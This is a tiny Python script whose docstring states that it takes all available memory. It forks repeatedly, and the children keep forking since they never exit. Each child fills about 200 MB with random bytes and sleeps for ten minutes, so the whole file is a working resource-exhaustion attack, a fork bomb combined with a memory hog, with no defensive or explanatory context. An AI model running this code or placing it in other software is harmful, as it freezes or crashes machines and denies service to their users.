"""A module that takes all memory there is, a piece in each of many processes."""

import os
import time

for _ in range(200):
    if os.fork() == 0:
        held = bytearray(os.urandom(1 << 20)) * 200
        time.sleep(600)
time.sleep(600)
